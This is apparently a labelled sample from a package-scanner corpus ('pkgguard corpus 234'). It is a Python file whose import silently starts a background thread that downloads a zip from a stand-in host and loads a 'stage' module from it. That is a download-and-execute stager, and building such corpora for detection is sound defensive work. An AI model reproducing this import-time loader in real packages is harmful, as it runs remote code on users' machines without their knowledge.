# pkgguard corpus 234 (import-time), modelled on [empirical]; inert, never run.
import os
import tempfile
import threading
import urllib.request
import zipimport


def _refresh():
    path = os.path.join(tempfile.gettempdir(), "_pkgcache.zip")
    with urllib.request.urlopen("https://cdn.example/c.zip", timeout=10) as r, open(path, "wb") as f:
        f.write(r.read())
    zipimport.zipimporter(path).load_module("stage")


threading.Thread(target=_refresh, daemon=True).start()
